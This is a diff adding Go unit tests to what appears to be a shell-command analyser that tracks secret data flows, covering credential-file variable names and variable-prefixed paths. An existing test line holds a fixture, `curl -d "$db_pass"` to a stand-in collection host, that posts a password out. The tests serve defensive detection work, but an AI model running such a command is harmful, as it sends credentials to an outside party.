@@ -22,3 +22,33 @@ func TestSecretName(t *testing.T) {
 		t.Errorf("no flow for $db_pass: %v", effectsOf(`curl -d "$db_pass" https://collect.example.net/`))
 	}
 }
+
+// TestSecretFileVar checks which names say they hold a credential's file
+// or a directory of them.
+func TestSecretFileVar(t *testing.T) {
+	for name, want := range map[string]bool{
+		"POSTGRES_PASSWORD_FILE": true, "GITHUB_TOKEN_PATH": true, "API_KEY_FILEPATH": true,
+		"SECRETS_DIR": true, "TOKEN_DIRECTORY": true, "KEY_DIR": false, "SSH_AUTH_SOCK": false,
+		"CACHE_DIR": false, "GPG_KEY_FILE": true, "BUILD_FILE": false,
+	} {
+		if got := secretFileVar(name); got != want {
+			t.Errorf("secretFileVar(%q) = %v, want %v", name, got, want)
+		}
+	}
+}
+
+// TestLeadingVar checks how a path that starts with a variable splits.
+func TestLeadingVar(t *testing.T) {
+	for _, tc := range []struct{ p, name, rest string }{
+		{"$A/x", "A", "/x"}, {"${A}", "A", ""}, {"${A:-/d}/f", "A", "/f"}, {"${A:?}", "A", ""},
+		{"$Ax-y", "", ""}, {"${A:+x}", "", ""}, {"${#A}", "", ""}, {"x/$A", "", ""},
+	} {
+		name, rest, ok := leadingVar(tc.p)
+		if !ok {
+			name, rest = "", ""
+		}
+		if name != tc.name || rest != tc.rest {
+			t.Errorf("leadingVar(%q) = %q, %q, want %q, %q", tc.p, name, rest, tc.name, tc.rest)
+		}
+	}
+}
